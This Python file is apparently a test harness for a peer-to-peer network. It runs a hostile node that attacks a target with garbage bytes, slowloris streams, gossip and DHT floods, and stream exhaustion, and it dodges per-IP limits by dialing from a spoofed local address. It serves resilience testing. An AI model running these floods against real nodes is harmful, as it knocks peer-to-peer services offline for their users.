"""A hostile peer, for tests: ``python hostile_peer.py ATTACK TARGET [MODEL_ID]``.

TARGET is the victim's /ip4/../tcp/../p2p/ID; the attack runs until the process is stopped and
prints one JSON line of counts every second. Attacks:

- ``garbage``: random bytes on a stream of every protocol the victim speaks, after a completed
  Noise + Yamux handshake; and random bytes on raw TCP connections (before any handshake).
- ``slowloris``: as many activation streams as the victim lets it open, each sending one byte
  of a frame per second; and raw TCP connections sending the multistream header a byte a second.
- ``flood``: junk on the victim's gossip topics (block claims of MODEL_ID, receipt gossip) as fast
  as gossipsub takes it, and DHT requests straight at the victim, pipelined (lookups, signed
  values, provider records), from 4 streams at once.
- ``streams``: thousands of streams, opened as fast as the victim answers and never closed.
- ``spin``: the control: connected, then only burning CPU (no traffic), as busy as the others.

Each attack is a real shardnet node (py-libp2p host) or raw sockets; nothing is mocked.
"""

import json
import os
import random
import sys
from pathlib import Path

import trio  # noqa: E402

from shardnet.protocols import activation as ap  # noqa: E402
from shardnet.protocols import block_claim as bc  # noqa: E402
from shardnet.protocols import receipt_gossip as rg  # noqa: E402
from shardnet.transport import open_node  # noqa: E402
from shardnet.transport.config import NodeConfig, parse_peer_addr  # noqa: E402

PROTOCOLS = [ap.PROTOCOL_ID, bc.PROTOCOL_ID, rg.PROTOCOL_ID, "/ipfs/kad/1.0.0", "/ipfs/ping/1.0.0",
             "/libp2p/circuit/relay/0.2.0/hop", "/libp2p/dcutr", "/libp2p/autonat/1.0.0", "/meshsub/1.1.0"]
counts = {"ok": 0, "refused": 0}
#: every connection of the attacker comes from an address of its own, as from another machine
#: (the victim limits new connections per IP address; honest peers here connect from 127.0.0.1)
ATTACKER_IP = "127.0.0.2"
_open_tcp_stream = trio.open_tcp_stream


async def _from_attacker_ip(host, port, **kw):
    kw.setdefault("local_address", ATTACKER_IP)
    return await _open_tcp_stream(host, port, **kw)


trio.open_tcp_stream = _from_attacker_ip  # py-libp2p's dials too


async def report() -> None:
    while True:
        await trio.sleep(1)
        print(json.dumps(counts), flush=True)


async def attempt(coro) -> None:
    try:
        await coro
        counts["ok"] += 1
    except Exception:
        counts["refused"] += 1
        await trio.sleep(0.001)


async def open_stream(node, target, proto):
    return await node.new_stream(str(target.peer_id), proto, timeout=5)


# -- garbage -----------------------------------------------------------------------------------
async def garbage(node, target, host, port, _model):
    async def one_stream():
        s = await open_stream(node, target, random.choice(PROTOCOLS))
        await s.write(os.urandom(random.randint(1, 8192)), timeout=5)
        await s.close()

    async def raw():
        with trio.fail_after(5):
            sock = await trio.open_tcp_stream(host, port, local_address=ATTACKER_IP)
            try:
                await sock.send_all(os.urandom(4096))
            finally:
                await sock.aclose()

    async def loop(make):
        while True:
            await attempt(make())

    async with trio.open_nursery() as n:
        for _ in range(8):
            n.start_soon(loop, one_stream)
        n.start_soon(loop, raw)


# -- slowloris ---------------------------------------------------------------------------------
async def slowloris(node, target, host, port, _model):
    frame = ap.encode(ap.Close(b"\0" * ap.SESSION_ID_BYTES))

    async def slow_stream():
        while True:
            try:
                s = await open_stream(node, target, ap.PROTOCOL_ID)
                counts["ok"] += 1
                for i in range(len(frame) - 1):  # never the last byte
                    await s.write(frame[i:i + 1], timeout=5)
                    await trio.sleep(1)
            except Exception:
                counts["refused"] += 1
                await trio.sleep(1)

    async def slow_raw():
        header = b"\x13/multistream/1.0.0\n"
        while True:
            try:
                sock = await trio.open_tcp_stream(host, port, local_address=ATTACKER_IP)
                counts["ok"] += 1
                for b in header[:-1]:
                    await sock.send_all(bytes([b]))
                    await trio.sleep(1)
                await sock.aclose()
            except Exception:
                counts["refused"] += 1
                await trio.sleep(1)

    async with trio.open_nursery() as n:
        for _ in range(300):
            n.start_soon(slow_stream)
        for _ in range(200):
            n.start_soon(slow_raw)


# -- flood -------------------------------------------------------------------------------------
async def flood(node, target, host, port, model):
    # every claim topic a model can have (one per layer range), and the receipts' topics
    topics = [bc.range_topic(model, i) for i in range(bc.CLAIM_RANGES)] + [rg.TOPIC, rg.REPORT_TOPIC]

    async def gossip():
        for t in topics:
            await node.pubsub.raw.subscribe(t)
        await trio.sleep(2)  # let the victim learn our subscriptions and graft us
        while True:
            await attempt(node.pubsub.publish(random.choice(topics), os.urandom(random.randint(16, 1024))))
            await trio.sleep(0)

    async def dht():
        """DHT requests straight at the victim, pipelined on one stream after another: lookups
        for random keys, signed values and provider records under junk names."""
        from libp2p.kad_dht.pb.kademlia_pb2 import Message
        from libp2p.utils.varint import encode_varint_prefixed

        from shardnet.transport import records

        i = 0
        while True:
            batch = []
            for _ in range(32):
                i += 1
                m = Message()
                kind = i % 4
                if kind == 0:
                    m.type = Message.MessageType.FIND_NODE
                    m.key = os.urandom(32)
                elif kind == 1:
                    m.type = Message.MessageType.GET_PROVIDERS
                    m.key = os.urandom(34)
                elif kind == 2:
                    name = f"junk-{i}"
                    key = records.record_key(node.peer_id, name)
                    m.type = Message.MessageType.PUT_VALUE
                    m.key = key.encode()
                    m.record.key = m.key
                    m.record.value = records.encode(node.key_pair, name, os.urandom(512))
                else:
                    m.type = Message.MessageType.ADD_PROVIDER
                    m.key = os.urandom(34)
                    p = m.providerPeers.add()
                    p.id = node.peer_id.to_bytes()
                batch.append(encode_varint_prefixed(m.SerializeToString()))
            try:
                s = await open_stream(node, target, "/ipfs/kad/1.0.0")
                await s.write(b"".join(batch), timeout=5)
                while await s.read_some(65536, timeout=5):
                    counts["ok"] += 1
            except Exception:
                counts["refused"] += 1
                await trio.sleep(0.001)

    async with trio.open_nursery() as n:
        n.start_soon(gossip)
        for _ in range(4):
            n.start_soon(dht)


# -- streams -----------------------------------------------------------------------------------
async def streams(node, target, host, port, _model):
    held = []

    async def opener():
        while True:
            try:
                held.append(await open_stream(node, target, random.choice(PROTOCOLS)))
                counts["ok"] += 1
            except Exception:
                counts["refused"] += 1
                await trio.sleep(0.001)
            counts["held"] = len(held)

    async with trio.open_nursery() as n:
        for _ in range(64):
            n.start_soon(opener)


async def spin(node, target, host, port, _model):
    """No traffic at all, only CPU: the control, what an attacker's own work costs on this box."""
    while True:
        for _ in range(100_000):
            pass
        counts["ok"] += 1
        await trio.sleep(0)


ATTACKS = {"spin": spin, "garbage": garbage, "slowloris": slowloris, "flood": flood, "streams": streams}


async def main(attack: str, target_addr: str, model: str) -> None:
    target = parse_peer_addr(target_addr)
    ma = target.addrs[0]
    host, port = ma.value_for_protocol("ip4"), int(ma.value_for_protocol("tcp"))
    config = NodeConfig(listen=["/ip4/127.0.0.1/tcp/0"], autonat=False, hole_punch=False, auto_relays=0,
                        pubsub_max_msgs_per_topic_per_s=1e9)
    async with open_node(config) as node:
        await node.connect(target_addr)
        print(json.dumps({"attacking": attack, "target": str(target.peer_id)}), flush=True)
        async with trio.open_nursery() as n:
            n.start_soon(report)
            await ATTACKS[attack](node, target, host, port, model)


if __name__ == "__main__":
    # stand in for a machine of its own: the test keeps the swarm off this CPU (HOSTILE_CPU)
    if os.environ.get("HOSTILE_CPU"):
        os.sched_setaffinity(0, {int(os.environ["HOSTILE_CPU"])})
    trio.run(main, sys.argv[1], sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else "0" * 64)
